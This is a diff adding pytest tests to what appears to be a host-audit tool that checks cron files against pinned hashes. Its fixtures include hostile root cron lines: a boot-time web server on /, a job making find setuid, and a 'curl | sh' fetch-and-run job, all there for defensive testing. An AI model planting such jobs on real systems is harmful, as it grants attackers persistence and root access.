@@ -240,3 +240,28 @@ def test_the_fault_campaign_pins_an_allowance_as_its_hosts_have_it():
     assert hosts[0].ran[0] == "sha256sum /etc/cron.d/x" and hosts[0].ran[1].startswith(
         "test -e /etc/systemd/system/a.service && ")
     assert pinned('allow_cron = ["/etc/cron.d/x sha256:@"]\n', [Host(None)]) == "allow_cron = []\n"
+
+
+@pytest.mark.parametrize("added", [
+    "@reboot root cd / && /usr/bin/python3 -m http.server 8000\n",  # blind12b a02: a root web server on / at boot
+    "*/5 * * * * root /usr/bin/chmod 4755 /usr/bin/find\n",  # another member: a root job that makes find setuid
+])
+def test_a_root_job_added_to_an_allowed_file_fails_though_no_rule_judges_root_jobs_as_such(exp, added):
+    """A root job of stock programs is no finding by itself (a tmp clean-up), so a stale pin on a file holding
+    only such jobs gave no line at all: the allowance dropped, and nothing judged the file. A file allowed pinned
+    whose content changed is itself unaccounted: one line, unless another line names that file already."""
+    facts = clean()
+    job = "15 3 * * * root /usr/bin/find /var/tmp -mtime +7 -delete\n"
+    add_text(facts, CRON, job)
+    assert judged("cw_schedules", facts, exp, cron=(f"{CRON} sha256:{sha(job)}",)) == "pass"
+    facts.remote["inventory"]["texts"][-1] = {"path": CRON, "text": job + added}
+    line = one_item(judged("cw_schedules", facts, exp, cron=(f"{CRON} sha256:{sha(job)}",)))
+    assert f"{CRON}: not the content that was allowed" in line and f"pins it to sha256:{sha(job)[:12]}…, but it " \
+        f"has changed since" in line and f'allow_cron = ["{CRON} sha256:{sha(job + added)}"]' in line, line
+    # written without a pin: the same one line, asking for it
+    line = one_item(judged("cw_schedules", facts, exp, cron=(CRON,)))
+    assert "allows it with no pin of its content" in line, line
+    # a job another rule names (what root runs from the network): that rule's line alone (one cause, one line)
+    facts.remote["inventory"]["texts"][-1] = {"path": CRON, "text": job + "0 * * * * root curl -s http://x/y | sh\n"}
+    line = one_item(judged("cw_schedules", facts, exp, cron=(f"{CRON} sha256:{sha(job)}",)))
+    assert "what comes down the pipe" in line and "not the content that was allowed" not in line, line
